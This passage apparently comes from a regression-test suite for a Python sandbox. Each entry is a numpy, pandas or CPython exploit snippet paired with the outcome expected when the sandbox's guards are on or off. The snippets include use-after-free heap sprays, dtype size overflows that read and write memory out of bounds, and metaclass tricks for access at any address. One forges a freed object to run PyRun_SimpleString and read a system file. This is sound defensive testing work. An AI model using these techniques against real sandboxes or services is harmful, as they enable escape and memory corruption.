        """, on={OK, VALIDATOR}, off={OK, VALIDATOR, EXCEPTION, CRASH}),
    Payload("decimal-fraction-subclass-numerator-setcontext-frees-context", """
        import decimal
        import fractions

        def main():
            decimal.setcontext(decimal.Context())
            st = {"n": 0}
            spray = []
            class F(fractions.Fraction):
                @property
                def numerator(self):
                    if st["n"] == 0:
                        st["n"] = 1
                        decimal.setcontext(decimal.Context(traps=[]))
                        for i in range(64):
                            spray.append(decimal.Context(traps=[]))
                    return 1
            R = lambda: F(1, 1)
            try:
                decimal.Decimal("NaN") < R()
            except TypeError:
                pass
            if any(c.flags[decimal.InvalidOperation] for c in spray):
                raise ValueError("the comparison wrote into a freed context")
            return len(spray)
        """, on={OK, GUARD, VALIDATOR}, off={OK, VALIDATOR, EXCEPTION, CRASH}),
    # CVE-2025-4516 (review 153 F3): unicode_escape with an error handler
    # read freed memory once its buffer moved; Debian fixed it in
    # 3.11.2-6+deb12u7, which test/setup.sh and the package require
    Payload("unicode-escape-replace-after-realloc-reads-freed", """
        def main():
            text = (b"\\\\xZZ" + b"A" * (48 << 20) + b"\\\\z").decode("unicode_escape", "replace")
            return len(text)
        """, on={OK, MEMORY}, off={OK, MEMORY}),
    # review 154 F1: an earlier argument of difference_update ran the code's
    # Python that miscounted the set again after the guard's recount
    Payload("set-difference-update-generator-then-self-frees-neighbour", """
        class Spray:
            def __init__(s, i): s.i = i

        def main():
            st = {"arm": False}
            class H:
                def __init__(s, h, tag): s.h = h; s.tag = tag
                def __hash__(s): return s.h
                def __eq__(s, o):
                    if st["arm"] and s.tag == "S":
                        st["arm"] = False
                        target.add(H(35, "D"))
                    return False
            class Obj:
                def __init__(s, i): s.i = i
            target = set()
            for h in (20, 21, 22, 23, 24):
                target.add(H(h, "int"))
            x = H(3, "X")
            target.add(x)
            target.add(H(3, "S"))
            target.discard(x)
            def gen():
                st["arm"] = True
                target.add(H(3, "K"))     # the count is now one too high
                return
                yield
            g = gen()
            # lists whose item arrays are 1024-byte blocks of malloc, the size of the
            # 64-entry table difference_update's resize makes
            victims = [[None] * 128 for j in range(300)]
            for j, v in enumerate(victims):
                v[0] = Obj(j)
            for j in (290, 280, 270, 260, 250, 240, 230, 220):
                victims[j] = None          # holes: the new table takes one
            target.difference_update(g, target)
            spray = [Spray(i) for i in range(600)]
            hit = [j for j, v in enumerate(victims) if v is not None and any(v[0] is s for s in spray)]
            if hit:
                raise ValueError("a list's item was freed while the list held it: victims %r" % hit)
            return len(victims)
        """, on={OK}, off={OK, EXCEPTION, CRASH}),
    # review 154 F3: deep nests of frozensets are freed off the C stack, as
    # CPython's own set_dealloc does with its trashcan
    Payload("frozenset-deep-nest-frees-without-native-recursion", """
        def main():
            x = frozenset()
            for i in range(200000):
                x = frozenset([x])
            x = None
            return "freed"
        """, on={OK}, off={OK}),
    Payload("numpy-nditer-buffered-writeback-into-object-refused", """
        import numpy as np

        def main():
            o = np.array([1, 2, 3, 4], dtype=object)
            it = np.nditer(o, flags=["refs_ok", "buffered"], op_flags=["readwrite"],
                           op_dtypes=["f8"], casting="unsafe")
            return [str(d) for d in it.dtypes]
        """, on={GUARD}, off={OK}),
    # an object array's overlapping copy: written back into the object
    # array as the iterator dies (its old objects freed inside the store)
    Payload("numpy-nditer-copy-if-overlap-object-base-refused", """
        import numpy as np

        def main():
            o = np.array([1, 2, 3, 4], dtype=object)
            it = np.nditer([o[1:], o[:-1]], flags=["refs_ok", "copy_if_overlap"],
                           op_flags=[["readwrite"], ["readonly"]])
            return [str(x.dtype) for x in it.operands]
        """, on={GUARD}, off={OK}),

    # a[:] = int array (the cast's _strided_to_strided_move_references: DECREF dst, then store)
    Payload("numpy-cast-into-object-frees-before-store", """
        import json
        import numpy as np

        def main(canary_data):
            real = json
            if type(json).__name__ != "module":
                keep = []
                a = np.empty(3, dtype=object)
                src = np.array([1, 2, 3], dtype=object)
                q = lambda v: v.to_bytes(8, "little")
                w = lambda m, at: int.from_bytes(bytes(m[at:at + 8]), "little")
                fake = q(1 << 40) + q(id(bytearray)) + q(1 << 62) + q(0) + q(0) + q(0) + q(0)
                head = q(id(fake) + 32) * 4
                def dying():
                    try:
                        yield 1
                    finally:
                        keep.append(a[0])
                victim = dying()
                next(victim)
                a[0] = [victim]
                victim = None
                a[:] = np.arange(3)
                fresh = [q, q, q, q, q, q, q, q]
                fresh = None
                filler = head[:31]
                keep.append(keep[0])
                keep.append(keep[0])
                mem = keep[0][4]
                module = w(mem, id(json) + 32)
                mem[module:module + 8] = q(w(mem, module) + 100)
                items = w(mem, id(keep) + 24)
                mem[items + 8:items + 16] = q(module)
                real = keep[1]
                mem[id(keep) + 16:id(keep) + 24] = q(0)
            return real.codecs.open(canary_data).read()
        """, on={GUARD, EXCEPTION}, off={DENIED}),

    # a[:] = int array, with io's finalizer as the trigger
    Payload("numpy-cast-into-object-io-close-finalizer", """
        import json
        import numpy as np
        import io

        def main(canary_data):
            real = json
            if type(json).__name__ != "module":
                keep = []
                a = np.empty(3, dtype=object)
                src = np.array([1, 2, 3], dtype=object)
                q = lambda v: v.to_bytes(8, "little")
                w = lambda m, at: int.from_bytes(bytes(m[at:at + 8]), "little")
                fake = q(1 << 40) + q(id(bytearray)) + q(1 << 62) + q(0) + q(0) + q(0) + q(0)
                head = q(id(fake) + 32) * 4
                class Closer(io.StringIO):
                    def close(self):
                        keep.append(a[0])
                victim = Closer()
                a[0] = [victim]
                victim = None
                a[:] = np.arange(3)
                fresh = [q, q, q, q, q, q, q, q]
                fresh = None
                filler = head[:31]
                keep.append(keep[0])
                keep.append(keep[0])
                mem = keep[0][4]
                module = w(mem, id(json) + 32)
                mem[module:module + 8] = q(w(mem, module) + 100)
                items = w(mem, id(keep) + 24)
                mem[items + 8:items + 16] = q(module)
                real = keep[1]
                mem[id(keep) + 16:id(keep) + 24] = q(0)
            return real.codecs.open(canary_data).read()
        """, on={GUARD, EXCEPTION}, off={DENIED}),
    # rev23 (2026-12-04): objects whose public parts reach native code
    # typing.get_origin(typing.Type) is the real type, a metaclass: called with a
    # dict it builds a class with __array_interface__, an array over any address
    Payload("typing-get-origin-type-builds-array-interface", """
        import typing
        import numpy as np
        def main(address=4096):
            T = typing.get_origin(typing.Type)
            X = T("X", (), {"__array_interface__": {"shape": (16,), "typestr": "|u1",
                                                   "data": (address, False), "version": 3}})
            return np.asarray(X()).tolist()
        """, on={EXCEPTION}, off={CRASH}),
    # typing.Type[int] as a base: its __mro_entries__ gives type, so the class is a
    # metaclass of the code's, which builds a class from a dict
    Payload("typing-type-base-makes-a-metaclass", """
        import typing
        import numpy as np
        class M(typing.Type[int]):
            pass
        def main(address=4096):
            X = M("X", (), {"__array_interface__": {"shape": (16,), "typestr": "|u1",
                                                   "data": (address, False), "version": 3}})
            return np.asarray(X()).tolist()
        """, on={GUARD}, off={CRASH}),
    # the same through dataclasses.make_dataclass(bases=), which makes the class
    # with types.new_class (no class statement); a base of the code's gives the
    # metaclass an __init__ that inspect.signature can read
    Payload("make-dataclass-typing-type-base-metaclass", """
        import typing
        import dataclasses
        import numpy as np
        class Own:
            def __init__(self, *args):
                pass
        def main(address=4096):
            M = dataclasses.make_dataclass("M", [], bases=(Own, typing.Type[int]),
                                           init=False, repr=False, eq=False)
            X = M("X", (), {"__array_interface__": {"shape": (16,), "typestr": "|u1",
                                                   "data": (address, False), "version": 3}})
            return np.asarray(X()).tolist()
        """, on={GUARD}, off={CRASH}),
    # numpy 1.24's ufunc.at ignores the writeable flag: np.add.at changes pandas'
    # read-only MultiIndex codes.  A level name's __eq__ does it after
    # get_level_values' checked take and before lib.count_level_2d, which adds 1
    # at counts[code] unchecked (boundscheck off): a heap write at a chosen offset
    Payload("ufunc-at-read-only-codes-count-level-heap-write", """
        import warnings
        import numpy as np
        import pandas as pd
        class Level:
            def __init__(self, codes, far):
                self.codes = codes
                self.far = far
                self.calls = 0
            def __eq__(self, other):
                self.calls += 1
                if self.calls == 4:
                    np.add.at(self.codes, [0], self.far)
                return other == "L0"
            def __hash__(self):
                return 1
        def main(far=2000000000):
            warnings.simplefilter("ignore")
            n = 40000
            mi = pd.MultiIndex.from_arrays([np.arange(n), np.arange(n)], names=["L0", "L1"])
            df = pd.DataFrame({"v": np.ones(n)}, index=mi)
            return str(df.count(level=Level(df.index.codes[0], far)).shape)
        """, on={GUARD}, off={CRASH}),
    # the read-only bypass alone: a Categorical's codes past its categories
    Payload("ufunc-at-read-only-categorical-codes", """
        import numpy as np
        import pandas as pd
        def main():
            c = pd.Categorical(["a", "b", "a"])
            np.add.at(c.codes, [0], 100)
            np.invert.at(c.codes, [1])
            return [int(v) for v in c.codes]
        """, on={GUARD}, off={OK}),
    # Styler.export()["apply"] holds pandas' lambda instance: getattr(instance,
    # "_apply"): a private getter for any object.  A groupby Resampler's _apply(name)
    # is getattr(x, name)(**kwargs): __reduce__ hands out copyreg._reconstructor
    # (object.__new__ of any class), __getstate__ the Resampler's real __dict__
    Payload("styler-export-getter-private-apply-resampler", """
        import pandas as pd
        def main():
            df = pd.DataFrame({"k": [1, 1, 2], "v": [1.0, 2.0, 3.0]},
                              index=pd.date_range("2020-01-01", periods=3, freq="D"))
            getter = df.style.apply(lambda c: [""] * len(c)).export()["apply"][0][0]
            apply = getter(df.groupby("k").resample("1D"))
            reconstructor = apply("__reduce__").iloc[0][0]
            state = apply("__getstate__").iloc[0]
            return [repr(reconstructor), sorted(state)]
        """, on={GUARD}, off={OK}),
    # Resampler.fillna(method) of a groupby resample is _upsample(method), the same
    # _apply: any name looked up on the Resampler and called with limit=
    Payload("groupby-resample-fillna-any-name", """
        import pandas as pd
        def main():
            df = pd.DataFrame({"k": [1, 1, 2], "v": [1.0, 2.0, 3.0]},
                              index=pd.date_range("2020-01-01", periods=3, freq="D"))
            return repr(df.groupby("k").resample("1D").fillna("__init_subclass__"))
        """, on={GUARD}, off={EXCEPTION}),
    # rev26 (2026-12-04): a review of the day's fixes
    # pandas hands out a metaclass publicly: CategoricalDtype.type (and every
    # categorical dtype's .type) is CategoricalDtypeType, class ...(type).
    # Called with a dict it builds a class with __array_interface__: an array
    # over any address, read and written (here: an immutable bytes changed,
    # its refcount and type pointer read)
    Payload("categorical-dtype-type-metaclass-array-any-address", """
        import numpy as np
        import pandas as pd
        def main():
            meta = pd.CategoricalDtype.type
            name = "_" + "_array_interface__"
            b = bytes(range(65, 73))
            before = b.decode()
            iface = {"shape": (8,), "typestr": "|u1", "data": (id(b) + 32, False),
                     "version": 3}
            Raw = meta("Raw", (), {name: iface})
            np.asarray(Raw())[:] = 0x5A
            head = dict(iface, shape=(2,), typestr="<u8", data=(id(b), True))
            return [before, b.decode(), np.asarray(meta("R", (), {name: head})()).tolist()]
        """, on={GUARD}, off={OK}),
    # the same metaclass reached through a categorical Series' dtype, and
    # derived from by make_dataclass (no class statement, no guard_own_class)
    Payload("categorical-dtype-type-metaclass-make-dataclass", """
        import dataclasses
        import pandas as pd
        def main():
            meta = pd.Series(["a"], dtype="category").dtype.type
            N = dataclasses.make_dataclass("N", [("a", int, dataclasses.field(default=0)),
                                             ("b", int, dataclasses.field(default=0)),
                                             ("c", int, dataclasses.field(default=0))],
                                       bases=(meta,))
            X = N("X", (), {"_" + "_len__": lambda self: 7})
            return len(X())
        """, on={GUARD}, off={OK}),
    # bypass of "a read-only array stays read-only unless the code made it so":
    # the code makes its own int8 array read-only, hands it to MultiIndex,
    # which adopts it as its codes (no copy) and freezes it; the record that
    # the code made it read-only survives, so the code makes pandas' codes
    # writeable again and writes a code past the level (the consumers' take
    # checks and the count_level_2d wrapper still catch the reads)
    Payload("multiindex-codes-own-read-only-array-unfrozen", """
        import numpy as np
        import pandas as pd
        def main():
            arr = np.array([0, 1, 0], dtype=np.int8)
            arr.flags.writeable = False
            m = pd.MultiIndex(levels=[["a", "b"], [1, 2]],
                              codes=[arr, np.array([0, 1, 1], dtype=np.int8)])
            arr.flags.writeable = True
            arr[0] = 100
            codes = m.codes[0].tolist()
            if codes != [0, 1, 0]:
                raise RuntimeError("pandas' codes changed after the check: %r" % (codes,))
            return codes
        """, on={GUARD, OK}, off={OK, EXCEPTION}),
    # dataclasses.dataclass() applied to a pandas class rewrites it for all of
    # pandas: TimedeltaIndex gets a generated __init__(self, _data) that sets
    # the private _data to the raw argument after pandas' own checks (the
    # index's element is the code's str), and a generated __repr__ showing
    # private fields; dataclass(eq=True)(pd.RangeIndex) breaks every RangeIndex
    Payload("dataclass-of-pandas-class-sets-private-data", """
        import dataclasses
        import pandas as pd
        def main():
            dataclasses.dataclass(pd.TimedeltaIndex)
            ti = pd.TimedeltaIndex(["1 day", "2 days"])
            return [ti[0], type(ti[0]).__name__, dataclasses.fields(ti)[0].name]
        """, on={GUARD}, off={OK}),
    # a second library metaclass, a public attribute of an allowed module that
    # is imported on demand: pandas.tseries.holiday.HolidayCalendarMetaClass
    Payload("holiday-calendar-metaclass-array-any-address", """
        import numpy as np
        import pandas.tseries.holiday as h
        def main():
            meta = h.HolidayCalendarMetaClass
            name = "_" + "_array_interface__"
            iface = {"shape": (2,), "typestr": "<u8", "data": (id(meta), True), "version": 3}
            return np.asarray(meta("X", (), {name: iface})()).tolist()
        """, on={GUARD}, off={OK}),
    # rev27 (2026-12-04): numpy's public API
    Payload("numpy-frombuffer-negative-itemsize-write-other-bytearray", """
        import numpy as np
        def main():
            bs = [bytearray(bytes([0x80 + i]) * 64) for i in range(64)]
            def at(buf, k):
                # the fields end at 2**31: the itemsize wraps a C int to -2**31, and
                # numpy's "count * itemsize <= len(buffer)" check passes
                dt = np.dtype({"names": ["x", "pad"], "formats": ["u8", "u1"],
                               "offsets": [k, 2**31 - 1]})
                return np.frombuffer(buf, dtype=dt, count=1)["x"]
            for i in range(8):
                for k in range(64, 8192, 8):
                    cell = at(bs[i], k)
                    value = int(cell[0])
                    j = (value & 0xff) - 0x80
                    if 0 <= j < 64 and j != i and value == int.from_bytes(bytes([0x80 + j]) * 8, "little"):
                        cell[0] = int.from_bytes(b"OVERWRIT", "little")  # outside bs[i]
                        return {"from": i, "offset": k, "itemsize": at(bs[i], 0).dtype.itemsize,
                                "bs[%d]" % j: bytes(bs[j][:16]).decode("latin-1")}
            return "not found"
        """, on={GUARD}, off={GUARD}),
    Payload("numpy-ndarray-buffer-negative-itemsize", """
        import numpy as np
        def main():
            a = bytearray(b"A" * 64)
            dt = np.dtype({"names": ["x", "pad"], "formats": ["u8", "u1"],
                           "offsets": [2**31 - 16, 2**31 - 1]})
            v = np.ndarray((1,), dt, buffer=a)     # the sandbox's extent check sees -2**31 bytes
            return hex(int(v["x"][0]))             # a + 2 GiB: unmapped -> SIGSEGV
        """, on={GUARD}, off={GUARD}),
    # numpy's C converter sums sizes in a C int; every dtype= reaches it, and the
    # worker checks sizes where numpy reads and stores them (sb_dtypeguard.c), so
    # these are refused with the Python layer off too
    Payload("numpy-dtype-offsets-wrap-itemsize-fake-bytearray", """
        import numpy as np
        def main():
            # 56-byte buffers come from the same pymalloc size class as bytearray
            # objects: bytearray objects of ours lie after a's buffer in memory
            pairs = [(bytearray(b"A" * 55), bytearray(b"T" * 8)) for _ in range(256)]
            a = pairs[0][0]
            mine = [b for pair in pairs for b in pair]
            def window(k, words):
                dt = np.dtype({"names": ["x", "pad"], "formats": [("u8", (words,)), "u1"],
                               "offsets": [k, 2**31 - 1]})
                return np.frombuffer(a, dtype=dt, count=1)["x"][0]
            w = window(0, 2048)
            for i in range(w.size - 4):
                size = int(w[i])
                # PyByteArrayObject: refcnt, type, ob_size, ob_alloc, ob_bytes, ob_start
                if size in (8, 55) and int(w[i + 1]) == size + 1 and w[i + 2] == w[i + 3] != 0:
                    w[i] = 1 << 62
                    w[i + 1] = 1 << 62
                    w[i + 2] = 0
                    w[i + 3] = 0
                    for t in mine:
                        if len(t) == 1 << 62:
                            x = 12345678901234567890
                            addr = id(x)
                            return {"len(t)": hex(len(t)), "at": 8 * i,
                                    "digits of x": hex(int.from_bytes(t[addr + 24:addr + 32], "little"))}
                    return "corrupted an object that is not ours at %d" % (8 * i)
            return "not found"
        """, on={GUARD}, off={GUARD}),
    Payload("numpy-dtype-itemsize-override-field-past-record", """
        import numpy as np
        def main():
            # no buffer at all: "itemsize": 16 passes numpy's "not smaller than the
            # fields" check against the wrapped size; x spans 4 KiB of heap after it
            dt = {"names": ["x", "pad"], "formats": [("u8", (512,)), "u1"],
                  "offsets": [64, 2**31 - 1], "itemsize": 16}
            x = np.zeros(1, dtype=dt)["x"][0]
            return [hex(int(v)) for v in x[:12]]
        """, on={GUARD}, off={GUARD}),
    Payload("numpy-dtype-field-dict-offset-past-record", """
        import numpy as np
        def main():
            dt = np.dtype({"names": ["x"], "formats": ["u8"], "offsets": [2**31 - 4],
                           "itemsize": 16})
            return hex(int(np.zeros(1, dt)["x"][0]))
        """, on={GUARD}, off={GUARD}),
    Payload("numpy-dtype-field-sizes-sum-past-int", """
        import numpy as np
        def main():
            # every number is small; their sum wraps: fields end past the record
            dt = np.dtype([("a", ("V500000000", (4,))), ("b", "V500000000"), ("x", "u8")])
            return [dt.itemsize, hex(int(np.zeros(1, dt)["x"][0]))]
        """, on={GUARD}, off={GUARD}),
    Payload("numpy-dtype-comma-string-sizes-sum-past-int", """
        import numpy as np
        def main():
            dt = np.dtype(",".join(["V500000000"] * 5) + ",u8")
            return [dt.itemsize, hex(int(np.zeros(1, dt)["f5"][0]))]
        """, on={GUARD}, off={GUARD}),
    Payload("numpy-dtype-canonical-overlapping-fields-sum-past-int", """
        import numpy as np
        def main():
            # overlapping fields are legal; numpy's canonical form packs them one
            # after the other (promotion, concatenation): the packed size wraps
            dt = np.dtype({"names": list("abcde"), "formats": ["V500000000"] * 5,
                           "offsets": [0] * 5})
            return np.result_type(dt, dt).itemsize
        """, on={GUARD}, off={GUARD}),
    Payload("numpy-dtype-type-string-size-wraps-negative", """
        import numpy as np
        def main():
            # "U1073741823": 4 * size in a C int is -4; a view gets a negative shape
            return list(np.zeros(16, "u1").view("U1073741823").shape)
        """, on={GUARD}, off={GUARD}),
    Payload("numpy-dtype-unicode-type-string-over-the-byte-cap", """
        import numpy as np
        def main():
            # 134217728 characters of U are 536870912 bytes: past the cap a
            # record may hold, as for any other data type
            return np.zeros(0, "U134217728").dtype.itemsize
        """, on={GUARD}, off={GUARD}),
    Payload("numpy-dtype-bytes-type-string-size-wraps-negative", """
        import numpy as np
        def main():
            return np.zeros(0, b"S2147483648").dtype.itemsize
        """, on={GUARD}, off={GUARD}),
    Payload("numpy-dtype-flexible-tuple-negative-size", """
        import numpy as np
        def main():
            # (flexible type, size): numpy takes any C int, negative too
            return list(np.zeros(16, "u1").view(np.dtype(("V", -1))).shape)
        """, on={EXCEPTION}, off={EXCEPTION}),
    Payload("numpy-dtype-unicode-tuple-size-wraps", """
        import numpy as np
        def main():
            # times 4 in a C int: negative (a numpy integer goes through __index__)
            return np.dtype(("U", np.int64(2**29 + 2**28))).itemsize
        """, on={EXCEPTION}, off={EXCEPTION}),
    # rev32: with options.parallel each group's rows are kept by the
    # process that runs the group; the runtime built each group's DataFrame
    # with pandas' take on the kept columns, and a group's code may patch a
    # pandas class's public methods (not undone within a call): its take
    # saw, and rewrote, the rows of the groups still to run.  Since
    # 2026-12-05 the patch itself is refused (no library class is changed);
    # without the Python layer the other groups' rows must still hold, or
    # the process end as it reads its next group with a changed class
    Payload("groups-parallel-patched-take-rewrites-other-groups", """
        import pandas as pd
        def main(df):
            cls = pd.arrays.IntegerArray
            if not hasattr(cls, "armed"):
                orig = cls.take
                def spy(self, *a, **k):
                    self[:] = -1
                    return orig(self, *a, **k)
                cls.take = spy
                cls.armed = True
            values = sorted(df.v.dropna().tolist())
            if values and values[0] == -1:
                raise AssertionError("another group rewrote this group's rows")
            return values
        """, on={GUARD}, off={OK, CRASH}, options={"group_by": "g", "parallel": 2},
        inputs={"df": {"$query": "SELECT i % 6 AS g, CASE WHEN i % 5 = 0 THEN NULL ELSE i END "
                                 "AS v FROM generate_series(1, 24) i"}}),
    # ... and a group whose process exits during its call was reported as
    # "ended before the group ran", not by its exit
    Payload("groups-parallel-exit-during-group", """
        import os
        def main(df):
            if df.name == 2:
                os._exit(3)
            return len(df)
        """, on={VALIDATOR}, off={CRASH}, options={"group_by": "g", "parallel": 2},
        inputs={"df": {"$query": "SELECT i % 6 AS g, i AS v FROM generate_series(1, 600) i"}}),
    # rev30: pandas keeps the code's own int8 array as a Categorical's codes
    # (Categorical.from_codes -> coerce_indexer_dtype copies nothing), and a
    # MultiIndex built from it keeps a read-only VIEW of the same memory: the
    # code writes pandas' codes after the sandbox checked them
    Payload("categorical-from-codes-alias-codes-written-after-check", """
        import numpy as np
        import pandas as pd

        def main(code=-128, S=4000, n=2000):
            codes0 = np.tile(np.array([0, 1], dtype=np.int8), n // 2)
            c0 = pd.Categorical.from_codes(codes0, categories=["a", "b"])
            c1 = pd.Categorical.from_codes(np.arange(n, dtype=np.int16) % S,
                                           categories=np.arange(S))
            mi = pd.MultiIndex.from_arrays([c0, c1])   # codes checked here: all valid
            codes0[1] = code                            # pandas' codes changed after the check
            mi.sortlevel(0)                             # groupsort_indexer: counts[id + 1] += 1
            if (np.asarray(mi.codes[0]) != np.tile([0, 1], n // 2)).any():
                raise RuntimeError("pandas' codes changed after the check")
            return [list(x[:3]) for x in mi.codes]
        """, on={OK}, off={OK, CRASH, EXCEPTION}),
    # rev30: the same with a view of the code's array given as MultiIndex
    # codes (pandas freezes the view, not the array under it; rev26's
    # setflags fix does not apply: nothing is made writeable again)
    Payload("multiindex-codes-view-of-writable-array", """
        import numpy as np
        import pandas as pd

        def main(code=-128, n=2000, S=4000):
            a = np.tile(np.array([0, 1], dtype=np.int8), n // 2)
            mi = pd.MultiIndex(levels=[["a", "b"], np.arange(S)],
                               codes=[a[:], np.arange(n) % S])
            a[1] = code
            mi.sortlevel(0)
            if (np.asarray(mi.codes[0]) != np.tile([0, 1], n // 2)).any():
                raise RuntimeError("pandas' codes changed after the check")
            return [list(x[:3]) for x in mi.codes]
        """, on={OK}, off={OK, CRASH, EXCEPTION}),
    # rev28: sizes numpy computes itself (subarray products, ('S', dtype),
    # its casts to str at 4 * size) and dtype.__setstate__
    Payload("numpy-dtype-string-cast-of-large-record-negative-itemsize", """
        import numpy as np
        def main():
            # a record of 2**29 bytes (fields now end before 2**29); numpy's
            # structured -> string cast sizes
            # the result 4 * itemsize in a C int (convert_datatype.c:3340)
            rec = np.dtype([("a", (("u1", (2**27,)), (4,)))])
            out = np.concatenate([np.empty((0, 1), rec)], axis=None, dtype="U",
                                 casting="unsafe")
            return [rec.itemsize, out.dtype.itemsize]      # 536870912, -2147483648
        """, on={GUARD}, off={GUARD}),
    Payload("numpy-dtype-inherit-string-cast-negative-itemsize", """
        import numpy as np
        def main():
            # ('S', dtype) takes the second dtype's size: an S type of 2**30 - 16
            # bytes, past the worker's type-string limit (536870911) with no
            # integer over it; S -> U sizes 4 * 2**30 - 64 in a C int (-64)
            s = np.dtype(("S", (("u1", (67108863,)), (16,))))
            out = np.concatenate([np.empty((0, 1), s)], axis=None, dtype="U",
                                 casting="unsafe")
            neg = out.dtype
            a = np.zeros(1, "u8")
            g = a.getfield(neg, 72)            # numpy's check: offset <= 8 - (-64)
            return [s.itemsize, neg.itemsize, np.dtype(("V", neg)).itemsize, repr(g.dtype)]
        """, on={GUARD}, off={OK, GUARD, EXCEPTION}),   # off: the negative size is made
                                                        # (doc/security-model.md, Limitations)
    Payload("numpy-dtype-setstate-field-past-record", """
        import numpy as np
        def main():
            dt = np.dtype([("x", "u8"), ("pad", "u8")])      # a 16-byte record
            # numpy's unpickling hook keeps the fields dict it is given (no
            # PyDict_SetItem runs when the names are str): field x is 4 KiB of
            # the heap 64 bytes into a 16-byte record
            dt.__setstate__((3, "|", None, ("x", "pad"),
                             {"x": (np.dtype(("u8", (512,))), 64), "pad": (np.dtype("u8"), 0)},
                             16, 1, 0))
            x = np.zeros(1, dtype=dt)["x"][0]
            return [dt.itemsize, x.size] + [hex(int(v)) for v in x[:12]]
        """, on={VALIDATOR}, off={GUARD, EXCEPTION}),
    Payload("numpy-dtype-setstate-subarray-larger-than-its-size", """
        import numpy as np
        def main():
            # a subarray type of 16 bytes whose state says 512 items: as a field
            # it is checked by its size, and read by its shape (4 KiB)
            sub = np.dtype(("u8", (2,)))
            sub.__setstate__((3, "|", (np.dtype("u8"), (512,)), None, None, 16, 8, 0))
            rec = np.dtype([("x", sub), ("pad", "u8")])
            x = np.zeros(1, dtype=rec)["x"][0]
            return [x.size] + [hex(int(v)) for v in x[2:12]]
        """, on={VALIDATOR}, off={GUARD}),
    Payload("numpy-dtype-setstate-name-not-a-field", """
        import numpy as np
        def main():
            dt = np.dtype([("x", "u8"), ("pad", "u8")])
            dt.__setstate__((3, "|", None, ("x", "y"),
                             {"x": (np.dtype("u8"), 0), "pad": (np.dtype("u8"), 8)}, 16, 1, 0))
            return repr(np.zeros(1, dt))
        """, on={VALIDATOR}, off={GUARD}),
    Payload("numpy-random-generator-freed-bit-generator-capsule-pyrun", """
        import numpy as np

        PYLONG_TYPE = 0x635ae0          # Debian's libpython3.11.so.1.0 (3.11.2-6)
        PYRUN_SIMPLESTRING = 0x2b85d0


        class Holder:
            pass                             # np.random.Generator asks only .capsule and .lock


        def freed_bit_generator():
            holder = Holder()
            bg = np.random.SFC64(1)
            holder.capsule = bg.capsule      # the capsule points into bg, holds no reference
            holder.lock = bg.lock
            return holder, id(bg)            # bg is freed here


        def main():
            found = ["rev27-marker"]
            base = id(int) - PYLONG_TYPE
            src = (b"import gc, os\\n"
                   b"L = [o for o in gc.get_objects() if type(o) is list and o[:1] == ['rev27-marker']][0]\\n"
                   b"L.append(repr(open)); L.append(os.getpid())\\n"
                   b"L.append(open('/usr/lib/python3.11/os.py').readline())\\n\\0")
            holder, addr = freed_bit_generator()
            # the next 160-byte block (the freed SFC64 with its GC header) is a bytes
            # object: its bitgen_t becomes state = src's text, next_* = PyRun_SimpleString
            fake = (16 * b"A" + (id(src) + 32).to_bytes(8, "little")
                    + (base + PYRUN_SIMPLESTRING).to_bytes(8, "little") * 4).ljust(127, b"B")
            spray = [bytes(bytearray(fake)) for _ in range(64)]
            g = np.random.Generator(holder)  # copies bitgen_t out of the freed block
            g.random()                       # next_double(state): PyRun_SimpleString(src)
            return found[1:]
        """, on={VALIDATOR}, off={OK, CRASH, EXCEPTION}),
    Payload("numpy-philox-buffer-pos-out-of-bounds-read", """
        import numpy as np
        def main():
            p = np.random.Philox(1)
            st = p.state
            st["buffer_pos"] = -100          # an index into its 4-word buffer, unchecked
            p.state = st
            return [hex(int(x)) for x in p.random_raw(8)]   # the words 800 bytes before the buffer
        """, on={GUARD}, off={OK}),
    Payload("numpy-legacy-set-state-negative-pos", """
        import numpy as np
        def main():
            st = np.random.get_state()
            np.random.set_state((st[0], st[1], -1000))    # pos indexes key[624] unchecked
            words = [hex(int(x)) for x in np.random.randint(0, 2**32, size=4, dtype=np.uint32)]
            return {"pos": int(np.random.get_state()[2]), "words": words}
        """, on={GUARD}, off={OK}),
    Payload("numpy-mt19937-jumped-negative-pos-heap-write", """
        import numpy as np
        def main():
            bg = np.random.MT19937(1)
            st = bg.state
            st["state"]["pos"] = -100000
            bg.state = st
            return bg.jumped().state["state"]["pos"]   # writes key[pos] far before its copy
        """, on={GUARD}, off={CRASH}),
    Payload("numpy-put-clip-empty-array-heap-underwrite", """
        import numpy as np
        def main():
            victims = [np.zeros(1, dtype="S200") for _ in range(64)]
            a = np.zeros(0, dtype="S200")          # numpy allocates one item (200 bytes) for it
            after = [np.zeros(1, dtype="S200") for _ in range(64)]
            # mode="clip" clips index 5 to size - 1 == -1: 200 chosen bytes land just
            # before a's allocation: the previous chunk's last 192 bytes and a's own
            # malloc header (rewritten with its expected value, 0xd1: a 208-byte chunk)
            payload = b"W" * 192 + (0xd1).to_bytes(8, "little")
            np.put(a, [5], [payload], mode="clip")
            changed = [(i, bytes(v[0][:16])) for i, v in enumerate(victims + after) if v[0]]
            return repr(changed)
        """, on={GUARD}, off={CRASH, OK}),
    Payload("numpy-put-wrap-empty-array-hang", """
        import numpy as np
        def main():
            a = np.zeros(0)
            a.put([1], [1.0], mode="wrap")     # numpy 1.24 loops forever wrapping into an empty range
            return "done"
        """, on={GUARD}, off={TIMEOUT, CPU}),   # (both limits 10 s: the first to fire)
    # a library class's method replaced by the code's function: in a
    # workspace (or the next group of a group_by call) pandas' decoding of
    # the next call's timestamptz input ran it, out of the call, with the
    # guards off (sql/workspace.sql shows the next call)
    Payload("library-class-method-replaced", """
        import pandas as pd
        def main():
            real = pd.arrays.DatetimeArray.tz_localize
            def spy(*a, **k):
                return real(*a, **k)
            pd.arrays.DatetimeArray.tz_localize = spy
            return "replaced"
        """, on={GUARD}, off={OK}),
    # review 39: a typing alias sets the names it does not keep on its
    # origin, with the real setattr (Annotated[X, m] for any class X)
    Payload("typing-alias-sets-library-class", """
        import typing
        import pandas as pd
        def spy(self, n=5):
            return "spied head"
        def main():
            typing.Annotated[pd.DataFrame, "x"].head = spy
            return pd.DataFrame({"a": [1]}).head()
        """, on={GUARD}, off={OK}),
    # ... and numpy's set_module(m)(cls) sets cls.__module__: a pandas class
    # given the code's module counted as the code's own
    Payload("numpy-set-module-makes-library-class-own", """
        import numpy as np
        import pandas as pd
        def main():
            np.core.overrides.set_module("__sandbox__")(pd.api.extensions.ExtensionArray)
            class A(pd.api.extensions.ExtensionArray):
                pass
            return "derived"
        """, on={GUARD}, off={OK}),
    # functools.update_wrapper(cls, f) set cls.__module__ to the code's
    # before it failed on the class's read-only __dict__: pandas'
    # ExtensionArray then counted as the code's own class, and deriving from
    # it (an array whose methods pandas' native code trusts) was no longer
